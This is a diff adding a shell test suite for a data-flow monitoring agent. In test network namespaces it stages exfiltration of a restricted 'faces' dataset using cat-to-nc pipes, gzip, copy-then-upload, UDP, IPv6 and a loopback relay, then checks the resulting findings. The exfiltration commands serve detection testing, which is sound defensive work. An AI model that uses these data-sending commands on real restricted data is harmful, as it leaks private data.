@@ -1,0 +1,291 @@
+#!/bin/bash
+# SPDX-License-Identifier: GPL-2.0
+# test_dataflow.sh - taint through pipes, copies and loopback to test hosts in network namespaces; OCSF findings.
+set -u
+. "$(dirname "$0")/../lib/lib.sh"
+need_root dataflow
+mount_kernel_fs
+
+# Two test hosts the test creates itself: "external" (not allowed) and "ok" (allowed egress).
+EXT=dt-ext-$$
+OKNS=dt-ok-$$
+VX=dtx$$
+VO=dto$$
+T=$(mktemp -d /var/tmp/dt-flow.XXXXXX)
+PIDS_TO_KILL=""
+cleanup() {
+	for p in $PIDS_TO_KILL; do kill "$p" 2>/dev/null; done
+	[ -n "${AGENT_PID:-}" ] && kill -KILL "$AGENT_PID" 2>/dev/null
+	ip netns pids "$EXT" 2>/dev/null | xargs -r kill 2>/dev/null
+	ip netns pids "$OKNS" 2>/dev/null | xargs -r kill 2>/dev/null
+	ip link del "$VX" 2>/dev/null
+	ip link del "$VO" 2>/dev/null
+	ip netns del "$EXT" 2>/dev/null
+	ip netns del "$OKNS" 2>/dev/null
+	[ -n "${DT_KEEP:-}" ] && echo "kept $T" >&2 || rm -rf "$T"
+}
+trap cleanup EXIT
+
+setup_host() { # ns veth host-side-v4 ns-side-v4 [host-v6 ns-v6]
+	ip netns add "$1" || return 1
+	ip link add "$2" type veth peer name "$2p" || return 1
+	ip link set "$2p" netns "$1"
+	ip addr add "$3/24" dev "$2"
+	ip link set "$2" up
+	ip netns exec "$1" ip addr add "$4/24" dev "$2p"
+	ip netns exec "$1" ip link set "$2p" up
+	ip netns exec "$1" ip link set lo up
+	if [ $# -gt 4 ]; then
+		ip -6 addr add "$5/64" dev "$2" nodad
+		ip netns exec "$1" ip -6 addr add "$6/64" dev "$2p" nodad
+	fi
+}
+setup_host "$EXT" "$VX" 10.199.1.1 10.199.1.2 fd00:199:1::1 fd00:199:1::2 || exit 1
+setup_host "$OKNS" "$VO" 10.199.2.1 10.199.2.2 || exit 1
+
+# listen NS PROTO ADDR PORT OUTFILE: one connection (or 1 s of UDP silence), bounded to 20 s.
+listen() {
+	local flags=-l
+	[ "$2" = udp ] && flags="-lu -w 2"
+	# shellcheck disable=SC2086
+	ip netns exec "$1" timeout 20 nc $flags "$3" "$4" >"$5" &
+	PIDS_TO_KILL="$PIDS_TO_KILL $!"
+	local i
+	for i in $(seq 100); do
+		if [ "$2" = udp ]; then
+			ip netns exec "$1" ss -lun | grep -q ":$4 " && return 0
+		else
+			ip netns exec "$1" ss -ltn | grep -q ":$4 " && return 0
+		fi
+		sleep 0.05
+	done
+	echo "listener on $3:$4 did not start" >&2
+	return 1
+}
+
+chmod 755 "$T"
+mkdir -p "$T/ds/sub" "$T/out"
+head -c 100000 /dev/urandom >"$T/ds/a.bin"
+head -c 20000 /dev/urandom >"$T/ds/b.bin"
+head -c 5000 /dev/urandom >"$T/ds/sub/c.bin"
+head -c 5000 /dev/urandom >"$T/plain.bin"
+chmod -R a+rX "$T/ds"
+cat >"$T/inv.json" <<EOF
+{"datasets": [
+  {"id": "faces", "classification": "restricted", "paths": ["$T/ds"], "tags": ["PII"],
+   "allowed_readers": {"uids": [0]},
+   "allowed_writers": {"uids": [4321]},
+   "allowed_egress": ["10.199.2.0/24"]}
+]}
+EOF
+
+EV=$T/events.jsonl
+FI=$T/findings.jsonl
+# Findings of one kind raised against one pid: their field's last value.
+finding() { # kind pid field
+	$EVQ "$FI" last "$3" --where finding_info.types.0="$1" --where evidences.0.process.pid="$2"
+}
+nfindings() { # kind pid
+	$EVQ "$FI" count --where finding_info.types.0="$1" --where evidences.0.process.pid="$2"
+}
+
+agent_start "$T" "$T/inv.json" --flush-ms 200 || exit 1
+
+# 1. cat dataset | nc external
+listen "$EXT" tcp 10.199.1.2 9001 "$T/recv1" || exit 1
+/usr/bin/cat "$T/ds/a.bin" | /usr/bin/nc -w 10 -N 10.199.1.2 9001 &
+NC1_PID=$!
+wait $NC1_PID
+
+# 2. cat dataset | gzip | nc external
+listen "$EXT" tcp 10.199.1.2 9002 "$T/recv2" || exit 1
+/usr/bin/cat "$T/ds/a.bin" | /usr/bin/gzip -c | /usr/bin/nc -w 10 -N 10.199.1.2 9002 &
+NC2_PID=$!
+wait $NC2_PID
+
+# 3. python reads the dataset and POSTs it over HTTP to the allowed host
+cat >"$T/server.py" <<'EOF'
+import http.server, sys
+class H(http.server.BaseHTTPRequestHandler):
+    def do_POST(self):
+        n = int(self.headers["Content-Length"])
+        body = self.rfile.read(n)
+        open(sys.argv[2], "w").write(str(len(body)))
+        self.send_response(200); self.end_headers(); self.wfile.write(b"ok")
+    def log_message(self, *a): pass
+s = http.server.HTTPServer((sys.argv[1], 8080), H)
+s.handle_request()
+EOF
+ip netns exec "$OKNS" timeout 20 $PY "$T/server.py" 10.199.2.2 "$T/recv3" &
+PIDS_TO_KILL="$PIDS_TO_KILL $!"
+for i in $(seq 100); do ip netns exec "$OKNS" ss -ltn | grep -q ':8080 ' && break; sleep 0.05; done
+$PY -c "
+import urllib.request
+data = open('$T/ds/a.bin', 'rb').read()
+req = urllib.request.Request('http://10.199.2.2:8080/', data=data, method='POST')
+assert urllib.request.urlopen(req, timeout=10).read() == b'ok'
+" &
+POST_PID=$!
+wait $POST_PID
+
+# 4. cp to a place outside the dataset, then an unrelated process uploads the copy
+/usr/bin/cp "$T/ds/a.bin" "$T/out/copy.bin" &
+CP_PID=$!
+wait $CP_PID
+listen "$EXT" tcp 10.199.1.2 9004 "$T/recv4" || exit 1
+/usr/bin/nc -w 10 -N 10.199.1.2 9004 <"$T/out/copy.bin" &
+NC4_PID=$!
+wait $NC4_PID
+
+# 5. a process that read nothing classified sends
+listen "$EXT" tcp 10.199.1.2 9005 "$T/recv5" || exit 1
+/usr/bin/nc -w 10 -N 10.199.1.2 9005 <"$T/plain.bin" &
+NC5_PID=$!
+wait $NC5_PID
+
+# 6. a read by a uid outside allowed_readers
+setpriv --reuid=1234 --regid=1234 --clear-groups /usr/bin/cat "$T/ds/b.bin" >/dev/null &
+UID_PID=$!
+wait $UID_PID
+
+# 7. appending to a dataset file (root is not an allowed writer)
+/bin/sh -c "echo poisoned-sample >> '$T/ds/b.bin'" &
+APPEND_PID=$!
+wait $APPEND_PID
+
+# 8. IPv6
+listen "$EXT" tcp fd00:199:1::2 9006 "$T/recv6" || exit 1
+/usr/bin/cat "$T/ds/sub/c.bin" | /usr/bin/nc -w 10 -N fd00:199:1::2 9006 &
+NC6_PID=$!
+wait $NC6_PID
+
+# 9. UDP
+listen "$EXT" udp 10.199.1.2 9007 "$T/recv7" || exit 1
+/usr/bin/cat "$T/ds/sub/c.bin" | /usr/bin/nc -w 10 -u -q 0 10.199.1.2 9007 &
+UDP_PID=$!
+wait $UDP_PID
+
+# 10. loopback relay: tainted nc -> local relay -> external
+listen "$EXT" tcp 10.199.1.2 9008 "$T/recv8" || exit 1
+cat >"$T/relay.py" <<'EOF'
+import socket, sys
+ls = socket.socket(); ls.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
+ls.bind(("127.0.0.1", 9100)); ls.listen(1); ls.settimeout(20)
+open(sys.argv[1], "w").close()
+c, _ = ls.accept(); c.settimeout(20)
+data = b""
+while True:
+    b = c.recv(65536)
+    if not b: break
+    data += b
+out = socket.create_connection(("10.199.1.2", 9008), timeout=10)
+out.sendall(data); out.close()
+EOF
+rm -f "$T/relay.ready"
+$PY "$T/relay.py" "$T/relay.ready" &
+RELAY_PID=$!
+for i in $(seq 100); do [ -e "$T/relay.ready" ] && break; sleep 0.05; done
+/usr/bin/cat "$T/ds/a.bin" | /usr/bin/nc -w 10 -N 127.0.0.1 9100 &
+NCL_PID=$!
+wait $NCL_PID
+wait $RELAY_PID
+
+sleep 0.5
+agent_stop
+
+test_agent_exits_cleanly() {
+	ASSERT_EQ "$AGENT_RC" 0 "agent exit status"
+	ASSERT_EQ "$(stat -c %a "$FI")" 600 "findings file mode"
+}
+
+test_cat_pipe_nc_exfiltration() {
+	ASSERT_EQ "$(stat -c %s "$T/recv1")" 100000 "bytes received by the external host"
+	ASSERT_EQ "$(finding exfiltration $NC1_PID unmapped.bytes)" 100000 "finding bytes"
+	ASSERT_EQ "$(finding exfiltration $NC1_PID resources.0.uid)" faces "dataset"
+	ASSERT_EQ "$(finding exfiltration $NC1_PID resources.0.type)" dataset "resource type"
+	ASSERT_EQ "$(finding exfiltration $NC1_PID evidences.0.process.name)" nc "process name"
+	ASSERT_EQ "$(finding exfiltration $NC1_PID evidences.0.process.file.path)" /usr/bin/nc "exe"
+	ASSERT_EQ "$(finding exfiltration $NC1_PID evidences.0.process.parent_process.pid)" $$ \
+		"parent is this test shell"
+	ASSERT_EQ "$(finding exfiltration $NC1_PID evidences.0.dst_endpoint.ip)" 10.199.1.2 "dst ip"
+	ASSERT_EQ "$(finding exfiltration $NC1_PID evidences.0.dst_endpoint.port)" 9001 "dst port"
+	ASSERT_EQ "$(finding exfiltration $NC1_PID class_uid)" 2004 "class_uid"
+	ASSERT_EQ "$(finding exfiltration $NC1_PID severity_id)" 4 "severity: restricted"
+	ASSERT_EQ "$(finding exfiltration $NC1_PID unmapped.via.hop)" pipe "taint came through a pipe"
+	ASSERT_HAS "$(finding exfiltration $NC1_PID finding_info.attacks.0.technique.uid)" T1048 "att&ck"
+	ASSERT_EQ "$($EVQ "$FI" values finding_info.uid --where evidences.0.process.pid=$NC1_PID | wc -l)" 1 \
+		"one finding uid per (process, dataset, destination)"
+	ASSERT_EQ "$($EVQ "$FI" count --where evidences.0.process.pid=$NC1_PID --where activity_id=1)" 1 \
+		"created once"
+}
+
+test_pipe_chain_through_gzip() {
+	local sent
+	sent=$(stat -c %s "$T/recv2")
+	ASSERT_NEQ "$sent" 0 "gzip output reached the external host"
+	ASSERT_EQ "$(finding exfiltration $NC2_PID unmapped.bytes)" "$sent" "finding bytes = bytes sent"
+	ASSERT_EQ "$(finding exfiltration $NC2_PID resources.0.uid)" faces "dataset"
+	ASSERT_EQ "$(finding exfiltration $NC2_PID evidences.0.process.name)" nc "process name"
+}
+
+test_allowed_destination_is_silent() {
+	ASSERT_EQ "$(cat "$T/recv3")" 100000 "the allowed host received the POST"
+	ASSERT_EQ "$($EVQ "$EV" sum unmapped.bytes --where actor.process.pid=$POST_PID)" 100000 \
+		"the poster read the dataset"
+	ASSERT_EQ "$($EVQ "$FI" count --where evidences.0.process.pid=$POST_PID)" 0 "findings for the poster"
+}
+
+test_copy_then_upload() {
+	ASSERT_EQ "$(finding derived_copy $CP_PID evidences.0.file.path)" "$T/out/copy.bin" "copy path"
+	ASSERT_EQ "$(finding derived_copy $CP_PID unmapped.bytes)" 100000 "bytes copied"
+	ASSERT_EQ "$(finding derived_copy $CP_PID resources.0.uid)" faces "copy dataset"
+	ASSERT_EQ "$(finding derived_copy $CP_PID evidences.0.process.file.path)" /usr/bin/cp "copier"
+	ASSERT_EQ "$(finding exfiltration $NC4_PID unmapped.bytes)" 100000 "upload of the copy"
+	ASSERT_EQ "$(finding exfiltration $NC4_PID resources.0.uid)" faces "upload dataset"
+	ASSERT_EQ "$(finding exfiltration $NC4_PID unmapped.via.hop)" read "tainted by reading the copy"
+}
+
+test_untainted_sender_is_silent() {
+	ASSERT_EQ "$(stat -c %s "$T/recv5")" 5000 "plain bytes arrived"
+	ASSERT_EQ "$($EVQ "$FI" count --where evidences.0.process.pid=$NC5_PID)" 0 "findings"
+}
+
+test_unauthorized_reader() {
+	ASSERT_EQ "$(finding unauthorized_read $UID_PID unmapped.bytes)" 20000 "bytes read"
+	ASSERT_EQ "$(finding unauthorized_read $UID_PID evidences.0.process.user.uid)" 1234 "uid"
+	ASSERT_EQ "$(finding unauthorized_read $UID_PID resources.0.uid)" faces "dataset"
+	ASSERT_EQ "$($EVQ "$FI" count --where finding_info.types.0=unauthorized_read --where evidences.0.process.user.uid=0)" 0 \
+		"root is an allowed reader"
+}
+
+test_append_is_tamper() {
+	ASSERT_EQ "$(finding dataset_tamper $APPEND_PID evidences.0.file.path)" "$T/ds/b.bin" "file"
+	ASSERT_EQ "$(finding dataset_tamper $APPEND_PID unmapped.bytes)" 16 "bytes appended"
+	ASSERT_HAS "$(finding dataset_tamper $APPEND_PID unmapped.operations)" write "operation"
+	ASSERT_EQ "$(finding dataset_tamper $APPEND_PID severity_id)" 5 "severity"
+	ASSERT_EQ "$(finding dataset_tamper $APPEND_PID finding_info.attacks.1.technique.uid)" AML.T0020 \
+		"atlas: poison training data"
+}
+
+test_ipv6() {
+	ASSERT_EQ "$(stat -c %s "$T/recv6")" 5000 "bytes received over IPv6"
+	ASSERT_EQ "$(finding exfiltration $NC6_PID evidences.0.dst_endpoint.ip)" fd00:199:1::2 "dst ip"
+	ASSERT_EQ "$(finding exfiltration $NC6_PID unmapped.bytes)" 5000 "bytes"
+}
+
+test_udp() {
+	ASSERT_EQ "$(finding exfiltration $UDP_PID evidences.0.connection_info.protocol_name)" udp "proto"
+	ASSERT_EQ "$(finding exfiltration $UDP_PID unmapped.bytes)" 5000 "bytes"
+	ASSERT_EQ "$(finding exfiltration $UDP_PID evidences.0.dst_endpoint.port)" 9007 "port"
+}
+
+test_loopback_relay() {
+	ASSERT_EQ "$(stat -c %s "$T/recv8")" 100000 "relayed bytes arrived"
+	ASSERT_EQ "$(finding exfiltration $RELAY_PID unmapped.bytes)" 100000 "relay exfiltration bytes"
+	ASSERT_EQ "$(finding exfiltration $RELAY_PID evidences.0.process.name)" python3 "relay named"
+	ASSERT_EQ "$(finding exfiltration $RELAY_PID unmapped.via.hop)" loopback "tainted over loopback"
+	ASSERT_EQ "$($EVQ "$FI" count --where evidences.0.process.pid=$NCL_PID)" 0 \
+		"loopback is a channel, not egress"
+}
+
+run_tests dataflow
